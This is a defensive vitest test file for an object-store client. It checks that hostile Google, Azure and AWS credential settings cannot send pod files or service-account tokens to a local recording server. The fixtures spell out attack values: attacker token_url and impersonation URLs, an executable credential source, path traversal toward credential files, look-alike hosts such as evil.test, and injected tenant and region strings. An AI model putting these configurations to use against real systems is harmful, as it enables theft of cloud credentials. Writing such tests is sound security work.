import { generateKeyPairSync } from "node:crypto";
import { createServer } from "node:http";
import { join } from "node:path";
import { afterAll, beforeEach, describe, expect, onTestFinished, test, vi } from "vitest";
import { mountToken } from "#kit/pods/pod-token.ts";
import { GOOGLE_TOKEN, startGoogleCloud, workloadIdentity } from "#kit/servers/google-cloud.ts";
import { credentialsDir, removeTemporaryDirs } from "#kit/servers/store-server.ts";
import type { StoreLocation } from "#objectstore/location.ts";
import { openStore } from "#objectstore/open.ts";
import { PATIENCE } from "#objectstore/patience.ts";

// An attacker writes the Secret with the credentials or chooses the endpoint, and records all requests on a server.
// Files of the agent's pod and tokens of its service account must not get there.

const SECRET = "PRIVATE-KEY-OF-ANOTHER-SECRET";
const TOKEN = "TOKEN-OF-THE-SERVICE-ACCOUNT";
const signal = new AbortController().signal;
const patience = { ...PATIENCE, attempts: 1, giveUpMs: 0 };

let received = "";
const recorder = createServer((request, response) => {
  received += `${request.method} ${request.url} ${JSON.stringify(request.headers)} `;
  request.on("data", (bytes: Buffer) => {
    received += bytes.toString();
  });
  request.on("end", () => {
    const body = { access_token: "x", expires_in: 3600, token_type: "Bearer", issued_token_type: "x" };
    response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(body));
  });
});
await new Promise<void>((done) => recorder.listen(0, "127.0.0.1", done));
const ATTACKER = `http://127.0.0.1:${(recorder.address() as { port: number }).port}`;
const google = await startGoogleCloud({ known: TOKEN });
const token = mountToken(TOKEN);
const victim = join(credentialsDir({ "tls.key": SECRET }), "tls.key");
const PEM = generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey.export({ type: "pkcs8", format: "pem" });

afterAll(async () => {
  token.remove();
  removeTemporaryDirs();
  recorder.closeAllConnections();
  recorder.close();
  await google.stop();
});
beforeEach(() => {
  received = "";
});

/** Reads an object from the store. @returns the message of the refusal, or "asked" */
async function ask(location: StoreLocation, files?: Readonly<Record<string, string>>): Promise<string> {
  try {
    const directory = files === undefined ? {} : { credentialsDir: credentialsDir(files) };
    const store = await openStore(location, { ...directory, patience });
    await store.head("a", { signal });
    return "asked";
  } catch (thrown) {
    return (thrown as Error).message;
  }
}

const bucket: StoreLocation = { store: "gcs", bucket: "backups" };
const json = (fields: object) => JSON.stringify(fields);
const REGIONAL = "https://sts.europe-west3.rep.googleapis.com/v1/token";
const IMPERSONATE = "https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts";

describe("a hostile credentials.json sends no file and no token to another server:", () => {
  test.each<[string, string, RegExp]>([
    [
      "token_url is the attacker's server, and the token file is another file of the pod",
      workloadIdentity(victim, { token_url: ATTACKER }),
      /^token_url .*sts\.goog/,
    ],
    [
      "tokenUrl is the attacker's server, and the token file is another file of the pod",
      json({ ...JSON.parse(workloadIdentity(victim)), tokenUrl: ATTACKER }),
      /file/,
    ],
    [
      "token_url is the attacker's server, and the token file is the pod's token",
      workloadIdentity(token.file, { token_url: ATTACKER }),
      /^token_url/,
    ],
    [
      "the token file is another file of the pod, and token_url is Google's",
      workloadIdentity(victim),
      /^credential_source\.file .* below \/var\/run\/secrets\//,
    ],
    [
      "the path of the token file leaves the token folder",
      workloadIdentity(`/var/run/secrets/../../..${victim}`),
      /^credential_source\.file/,
    ],
    [
      "token_url is a bucket at googleapis.com",
      workloadIdentity(token.file, { token_url: "https://storage.googleapis.com/upload/storage/v1/b/x/o" }),
      /^token_url/,
    ],
    [
      "token_url has a host with a similar ending",
      workloadIdentity(token.file, { token_url: "https://sts.evilgoogleapis.com/v1/token" }),
      /^token_url/,
    ],
    [
      "token_url is Google's without TLS",
      workloadIdentity(token.file, { token_url: "http://sts.googleapis.com/v1/token" }),
      /^token_url/,
    ],
    [
      "the credential source is a URL",
      workloadIdentity(token.file, { credential_source: { url: `${ATTACKER}/token` } }),
      /^credential_source .* has url/,
    ],
    [
      "the credential source is a program",
      workloadIdentity(token.file, { credential_source: { executable: { command: "cat" } } }),
      /^credential_source .* has executable/,
    ],
    [
      "the credential source is a certificate",
      workloadIdentity(token.file, { credential_source: { certificate: { certificate_config_location: victim } } }),
      /^credential_source .* has certificate/,
    ],
    [
      "the credential source is AWS",
      workloadIdentity(token.file, { credential_source: { environment_id: "aws1", url: ATTACKER } }),
      /^credential_source .* has environment_id/,
    ],
    [
      "the impersonation URL is the attacker's server",
      workloadIdentity(token.file, { service_account_impersonation_url: `${ATTACKER}/x:generateAccessToken` }),
      /^service_account_impersonation_url/,
    ],
    [
      "the impersonation URL has a path chosen by the attacker",
      workloadIdentity(token.file, { service_account_impersonation_url: `${IMPERSONATE}/a/../b:generateAccessToken` }),
      /^service_account_impersonation_url/,
    ],
    [
      "the type is one that calls servers",
      json({ type: "gdch_service_account", token_uri: ATTACKER }),
      /^type .*"gdch_service_account"/,
    ],
    [
      "the type is one that impersonates",
      json({ type: "impersonated_service_account", source_credentials: {} }),
      /^type /,
    ],
    [
      "the type is one that runs programs",
      json({ type: "external_account_authorized_user", token_url: ATTACKER }),
      /^type /,
    ],
  ])("%s", async (_what, file, says) => {
    expect(await ask(bucket, { "credentials.json": file })).toMatch(says);
    expect(received).toBe("");
  });

  test("GOOGLE_APPLICATION_CREDENTIALS names such a file", async () => {
    const files = credentialsDir({ "credentials.json": workloadIdentity(victim, { token_url: ATTACKER }) });
    vi.stubEnv("GOOGLE_APPLICATION_CREDENTIALS", join(files, "credentials.json"));
    onTestFinished(() => void vi.stubEnv("GOOGLE_APPLICATION_CREDENTIALS", ""));
    expect(await ask(bucket)).toMatch(/token_url in .*credentials\.json is "http:/);
    expect(received).toBe("");
  });

  test.each([
    ["token_uri", json({ type: "service_account", client_email: "a@b", private_key: PEM, token_uri: ATTACKER })],
    [
      "universe_domain",
      json({ type: "service_account", client_email: "a@b", private_key: PEM, universe_domain: "evil.test" }),
    ],
    ["transporterOptions", workloadIdentity(token.file, { transporterOptions: { proxy: ATTACKER } })],
    [
      "universe_domain of a workload identity",
      workloadIdentity(token.file, { universe_domain: "evil.test", cloud_resource_manager_url: ATTACKER }),
    ],
    [
      "token_uri of a user",
      json({ type: "authorized_user", client_id: "a", client_secret: "b", refresh_token: "c", token_uri: ATTACKER }),
    ],
  ])("%s: the field is ignored, and Google issues the token", async (_what, file) => {
    const before = google.requests.length;
    expect(await ask(bucket, { "credentials.json": file })).toMatch(/HTTP 404/);
    expect(received).toBe("");
    const asked = google.requests.slice(before);
    expect([...new Set(asked.map(({ host }) => host))]).toEqual([
      expect.stringMatching(/^(?:sts|oauth2)\./),
      "storage.googleapis.com",
    ]);
    expect(asked.at(-1)?.authorization).toBe(`Bearer ${GOOGLE_TOKEN}`);
  });

  test("the configuration that Google generates for a workload identity is accepted", async () => {
    const impersonation = {
      service_account_impersonation_url: `${IMPERSONATE}/a@b.iam.gserviceaccount.com:generateAccessToken`,
    };
    const before = google.requests.length;
    await ask(bucket, { "credentials.json": workloadIdentity(token.file, impersonation) });
    expect(google.requests.slice(before).map(({ host }) => host)).toContain("iamcredentials.googleapis.com");
    expect(await ask(bucket, { "credentials.json": workloadIdentity(token.file, { token_url: REGIONAL }) })).toMatch(
      /ENOTFOUND|no token/,
    );
  });

  test("a missing field or a field of the wrong type is named in the error", async () => {
    const refusals = [
      [{ token_url: [ATTACKER] }, /has no token_url/],
      [{ credential_source: victim }, /credential_source .* may be an object/],
      [{ credential_source: {} }, /has no credential_source\.file/],
      [{ credential_source: { file: [victim] } }, /has no credential_source\.file/],
      [
        { credential_source: { file: token.file, format: { type: "xml" } } },
        /credential_source\.format\.type .*"xml"; it may be "text" or "json"/,
      ],
      [
        { credential_source: { file: token.file, format: { type: "json" } } },
        /has no credential_source\.format\.subject_token_field_name/,
      ],
    ] as const;
    for (const [fields, says] of refusals) {
      expect(await ask(bucket, { "credentials.json": workloadIdentity(token.file, fields) })).toMatch(says);
    }
  });
});

describe("an attacker's endpoint", () => {
  test("gets no Google token, neither from a Secret nor from the pod's identity", async () => {
    const file = { "credentials.json": workloadIdentity(token.file) };
    const metadata = createServer((_request, response) => {
      const body = JSON.stringify({ access_token: TOKEN, expires_in: 3600, token_type: "Bearer" });
      response.writeHead(200, { "content-type": "application/json", "metadata-flavor": "Google" }).end(body);
    });
    await new Promise<void>((done) => metadata.listen(0, "127.0.0.1", done));
    vi.stubEnv("GCE_METADATA_HOST", `127.0.0.1:${(metadata.address() as { port: number }).port}`);
    onTestFinished(() => {
      vi.stubEnv("GCE_METADATA_HOST", "");
      metadata.closeAllConnections();
      metadata.close();
    });
    for (const files of [file, undefined]) {
      received = "";
      expect(await ask({ ...bucket, endpoint: ATTACKER }, files)).toBe("asked");
      expect(received).toContain("GET /storage/v1/b/backups/o/a");
      expect(received).not.toContain("authorization");
      expect(received).not.toContain(TOKEN);
    }
  });

  test("gets no Azure token, and a hostile endpoint, authority or tenant is refused", async () => {
    vi.stubEnv("AZURE_CLIENT_ID", "client");
    vi.stubEnv("AZURE_TENANT_ID", "tenant");
    vi.stubEnv("AZURE_FEDERATED_TOKEN_FILE", token.file);
    vi.stubEnv("AZURE_AUTHORITY_HOST", ATTACKER);
    const azure: StoreLocation = { store: "azure", account: "attacker", container: "backups" };
    for (const endpoint of [ATTACKER, "https://evil.test", "https://blob.core.windows.net.evil.test"]) {
      expect(await ask({ ...azure, endpoint })).toMatch(
        /endpoint is .*; with the pod's workload identity it may be https:/,
      );
    }
    // The tenant comes from an annotation of the service account.
    expect(await ask(azure)).toMatch(/AZURE_AUTHORITY_HOST is "http:.*; it may be an https:\/\/ URL/);
    vi.stubEnv("AZURE_AUTHORITY_HOST", "");
    for (const tenant of [ATTACKER, "//evil.test/x", "a/b", "a?b", "..\\evil.test"]) {
      vi.stubEnv("AZURE_TENANT_ID", tenant);
      expect(await ask(azure)).toMatch(/AZURE_TENANT_ID is .*; it may be a UUID or a domain/);
    }
    expect(received).toBe("");
  });

  test("gets no AWS web identity and no secret key, and a region cannot contain a host", async () => {
    const s3 = { store: "s3", bucket: "backups", pathStyle: true } as const;
    const keys = { AWS_ACCESS_KEY_ID: "AKIAEXAMPLE", AWS_SECRET_ACCESS_KEY: SECRET };
    await ask({ ...s3, endpoint: ATTACKER }, keys);
    expect(received).toContain("AKIAEXAMPLE");
    expect(received).not.toContain(SECRET);
    received = "";
    vi.stubEnv("AWS_WEB_IDENTITY_TOKEN_FILE", token.file);
    vi.stubEnv("AWS_ROLE_ARN", "arn:aws:iam::123456789012:role/tests");
    onTestFinished(() => {
      vi.stubEnv("AWS_WEB_IDENTITY_TOKEN_FILE", "");
      vi.stubEnv("AWS_ROLE_ARN", "");
    });
    expect(await ask({ ...s3, endpoint: ATTACKER })).not.toBe("asked");
    for (const region of [`x@${new URL(ATTACKER).host}/#`, "evil.test", "evil.test/", "a b", ""]) {
      expect(await ask({ ...s3, region })).toMatch(/region is .*; it may be up to 63 letters/);
    }
    expect(received).not.toContain(TOKEN);
  });
});

describe("an attacker's proxy with an attacker's CA in the Secret", () => {
  const files = { "ca.crt": google.ca };
  const refusal = /has ca\.crt, and the pod's identity is used through a proxy/;

  test("gets no token of Google", async () => {
    const before = google.requests.length;
    for (const more of [{}, { "credentials.json": workloadIdentity(token.file) }]) {
      expect(await ask(bucket, { ...files, ...more })).toMatch(refusal);
    }
    const credentials = join(credentialsDir({ "credentials.json": workloadIdentity(token.file) }), "credentials.json");
    vi.stubEnv("GOOGLE_APPLICATION_CREDENTIALS", credentials);
    onTestFinished(() => void vi.stubEnv("GOOGLE_APPLICATION_CREDENTIALS", ""));
    expect(await ask(bucket, files)).toMatch(refusal);
    expect(google.requests.slice(before)).toEqual([]);
  });

  test("gets no token of Azure and no web identity of AWS, also with a proxy in lower case letters", async () => {
    const proxy = process.env.HTTPS_PROXY ?? "";
    vi.stubEnv("HTTPS_PROXY", "");
    vi.stubEnv("https_proxy", proxy);
    onTestFinished(() => {
      vi.stubEnv("https_proxy", "");
      vi.stubEnv("HTTPS_PROXY", proxy);
    });
    expect(await ask({ store: "azure", account: "victim", container: "backups" }, files)).toMatch(refusal);
    expect(await ask({ store: "s3", bucket: "backups", region: "eu-west-1" }, files)).toMatch(refusal);
  });
});
